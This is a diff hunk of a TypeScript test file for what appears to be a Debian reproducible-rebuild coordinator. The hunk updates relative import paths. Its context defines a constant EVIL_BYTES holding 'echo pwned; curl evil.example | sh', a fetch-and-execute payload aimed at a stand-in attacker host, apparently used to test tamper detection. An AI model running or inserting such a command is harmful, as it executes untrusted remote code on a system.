@@ -14,27 +14,27 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { serve } from '@hono/node-server';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { prepareDebianSubmission } from '../../cli/debian-submission.ts';
-import { createCoordinatorApp } from '../../coordinator/http/create-app.ts';
-import { readBlobBytes } from '../../coordinator/storage/read-blob.ts';
-import { signRebuildStatement } from '../../services/attestation/rebuild-statement.ts';
-import { createEnrolmentRequest } from '../../services/auth/worker-enrolment.ts';
-import { signWorkerRequest } from '../../services/auth/worker-request-auth.ts';
-import { newKey, rebuildFacts, type TestKey } from '../../services/consensus/consensus-test-fixtures.ts';
-import { parseBuildinfo } from '../../services/debian/buildinfo.ts';
+import { prepareDebianSubmission } from '../../../cli/debian-submission.ts';
+import { createCoordinatorApp } from '../../../coordinator/http/create-app.ts';
+import { readBlobBytes } from '../../../coordinator/storage/read-blob.ts';
+import { signRebuildStatement } from '../../../services/attestation/rebuild-statement.ts';
+import { createEnrolmentRequest } from '../../../services/auth/worker-enrolment.ts';
+import { signWorkerRequest } from '../../../services/auth/worker-request-auth.ts';
+import { newKey, rebuildFacts, type TestKey } from '../../../services/consensus/consensus-test-fixtures.ts';
+import { parseBuildinfo } from '../../../services/debian/buildinfo.ts';
 import {
   fixtureFile,
   helloBuildinfoParts,
   renderBuildinfoFixture,
-} from '../../services/debian/buildinfo-fixture.ts';
-import { type Sha256Hex, sha256Hex } from '../../services/digest.ts';
-import { parseAnyManifest } from '../../services/manifest/parse-any-manifest.ts';
-import { parseManifest } from '../../services/manifest/parse-manifest.ts';
-import { debianSourceFactOf } from '../../worker/debian/rebuild-debian.ts';
-import { createTestCoordinatorDeps, type TestCoordinatorDeps } from '../support/coordinator-deps-fixture.ts';
-import { type NetworkHarness, startNetworkHarness } from '../support/network-harness.ts';
-import { runCli } from '../support/run-cli.ts';
-import { REPO_ROOT } from '../support/runner-harness.ts';
+} from '../../../services/debian/buildinfo-fixture.ts';
+import { type Sha256Hex, sha256Hex } from '../../../services/digest.ts';
+import { parseAnyManifest } from '../../../services/manifest/parse-any-manifest.ts';
+import { parseManifest } from '../../../services/manifest/parse-manifest.ts';
+import { debianSourceFactOf } from '../../../worker/debian/rebuild-debian.ts';
+import { createTestCoordinatorDeps, type TestCoordinatorDeps } from '../../support/coordinator-deps-fixture.ts';
+import { type NetworkHarness, startNetworkHarness } from '../../support/network-harness.ts';
+import { runCli } from '../../support/run-cli.ts';
+import { REPO_ROOT } from '../../support/runner-harness.ts';
 
 const HELLO_MANIFEST = join(REPO_ROOT, 'samples', 'hello', 'manifest.json');
 const EVIL_BYTES = 'echo pwned; curl evil.example | sh\n';
